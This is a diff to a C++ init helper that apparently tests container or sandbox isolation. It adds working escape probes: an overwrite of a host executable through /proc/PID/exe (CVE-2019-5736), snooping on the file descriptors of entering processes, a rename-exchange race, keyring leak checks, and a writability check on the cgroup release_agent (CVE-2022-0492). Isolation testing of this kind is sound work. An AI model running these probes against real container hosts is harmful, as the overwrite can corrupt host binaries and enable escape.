@@ -2,14 +2,18 @@
 // inside, so that no distribution's image is needed. Verbs are chained with "--": init ls / -- exit 3.
 #include <dirent.h>
 #include <fcntl.h>
+#include <linux/keyctl.h>
+#include <sched.h>
 #include <signal.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
 #include <sys/mman.h>
+#include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/stat.h>
+#include <sys/statvfs.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
 #include <sys/utsname.h>
@@ -182,6 +186,103 @@ int Calls(bool all, int count, char** words) {
   return 0;
 }
 
+/// Attack on whoever enters this pid namespace from another executable (CVE-2019-5736): holds that executable, lets its
+/// process go, which waits for a reader of the fifo, and writes to the file.
+int OverwriteExe(const char* fifo) {
+  struct stat own;
+  if (stat("/proc/self/exe", &own) != 0) return Report("stat", "/proc/self/exe");
+  int held = -1;
+  for (int i = 0; i < 2000 && held < 0; ++i) {
+    usleep(2000);
+    for (int pid = 2; pid < 64 && held < 0; ++pid) {
+      char path[64];
+      snprintf(path, sizeof path, "/proc/%d/exe", pid);
+      const int fd = open(path, O_RDONLY);
+      struct stat other;
+      if (fd >= 0 && fstat(fd, &other) == 0 && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) held = fd;
+      if (fd >= 0 && held < 0) close(fd);
+    }
+  }
+  if (held < 0) return printf("found no other executable\n") < 0;
+  struct statvfs mount;
+  const bool writable = fstatvfs(held, &mount) == 0 && (mount.f_flag & ST_RDONLY) == 0;
+  printf("found an executable that is %s\n", writable ? "writable" : "read-only");
+  const int reader = open(fifo, O_RDONLY);
+  if (reader < 0) return Report("open", fifo);
+  char said[4096];
+  while (read(reader, said, sizeof said) > 0) {
+  }
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/fd/%d", held);
+  for (int i = 0; i < 500; ++i) {
+    const int fd = open(path, O_WRONLY);
+    if (fd >= 0) return printf("overwrote %d\n", static_cast<int>(write(fd, "overwritten", 11))) < 0;
+    if (errno != ETXTBSY) break;
+    usleep(2000);
+  }
+  return Report("overwrite", "executable");
+}
+
+/// Looks into whoever enters this pid namespace and is not (yet) this program, for as long as two seconds.
+int Spy() {
+  int error = 0;
+  for (int i = 0; i < 10000; ++i) {
+    usleep(100);
+    for (int pid = 2; pid < 64; ++pid) {
+      char path[64];
+      char name[64] = "";
+      snprintf(path, sizeof path, "/proc/%d/comm", pid);
+      const int fd = open(path, O_RDONLY);
+      if (fd < 0) continue;
+      const ssize_t got = read(fd, name, sizeof name - 1);
+      close(fd);
+      if (got <= 0 || strcmp(name, "init\n") == 0) continue;
+      for (int held = 0; held < 32; ++held) {
+        char target[256];
+        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, held);
+        const ssize_t length = readlink(path, target, sizeof target - 1);
+        if (length < 0) {
+          if (errno != ENOENT) error = errno;
+          continue;
+        }
+        return printf("spied on its descriptors: %.*s\n", static_cast<int>(length), target) < 0;
+      }
+    }
+  }
+  errno = error;
+  return error == 0 ? printf("saw nobody\n") < 0 : Report("spy", "on its descriptors");
+}
+
+/// Swaps two names, over and over, until it is killed.
+int Exchange(const char* one, const char* other) {
+  while (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) == 0) {
+  }
+  return Report("exchange", one);
+}
+
+/// Gives the program that follows a session keyring with that key, as a login does.
+int WithKey(const char* name, char** program) {
+  syscall(SYS_keyctl, KEYCTL_JOIN_SESSION_KEYRING, nullptr);
+  if (syscall(SYS_add_key, "user", name, "secret", 6, KEY_SPEC_SESSION_KEYRING) < 0) return Report("add", name);
+  execv(program[0], program);
+  return Report("exec", program[0]);
+}
+
+int FindKey(const char* name) {
+  const long key = syscall(SYS_request_key, "user", name, nullptr, 0);
+  return key < 0 ? Report("find", name) : printf("found %s\n", name) < 0;
+}
+
+/// Attack by the program that the kernel runs on the host for an empty cgroup (CVE-2022-0492). It is not written to.
+int ReleaseAgent(const char* controller) {
+  const auto mounted = [&] { return mount("cgroup", "/tmp", "cgroup", 0, controller) == 0; };
+  const bool in_namespaces = !mounted() && unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) == 0 && mounted();
+  if (!in_namespaces && access("/tmp/cgroup.procs", F_OK) != 0) return Report("mount", "cgroup");
+  const int fd = open("/tmp/release_agent", O_WRONLY);
+  if (fd < 0) return Report("open", "release_agent");
+  return printf("could write release_agent\n") < 0;
+}
+
 volatile sig_atomic_t last_signal = 0;
 void Note(int signal) { last_signal = signal; }
 
@@ -247,6 +348,18 @@ int Run(int count, char** words) {
   if (is("mkdir")) return mkdir(word(1), 0755) == 0 ? 0 : Report("mkdir", word(1));
   if (is("outlive-parent")) return prctl(PR_SET_PDEATHSIG, 0);  // as whoever changes the user does
   if (is("call") || is("calls")) return Calls(is("calls"), count, words);
+  if (is("to")) return freopen(word(1), "w", stdout) == nullptr ? Report("to", word(1)) : 0;
+  if (is("overwrite-exe")) return OverwriteExe(word(1));
+  if (is("spy")) return Spy();
+  if (is("exchange")) return Exchange(word(1), word(2));
+  if (is("with-key")) return WithKey(word(1), words + 2);
+  if (is("find-key")) return FindKey(word(1));
+  if (is("release-agent")) return ReleaseAgent(word(1));
+  if (is("exec")) {
+    fflush(stdout);
+    execv(word(1), words + 1);
+    return Report("exec", word(1));
+  }
   if (is("await-signal")) return AwaitSignal();
   if (is("size")) return Size();
   if (is("tty")) return Tty();
@@ -292,6 +405,7 @@ int main(int argc, char** argv) {
   for (int start = 1; start < argc;) {
     int end = start;
     while (end < argc && strcmp(argv[end], "--") != 0) ++end;
+    if (end < argc) argv[end] = nullptr;  // as execv wants it
     if (end > start) result = Run(end - start, argv + start);
     fflush(stdout);
     start = end + 1;
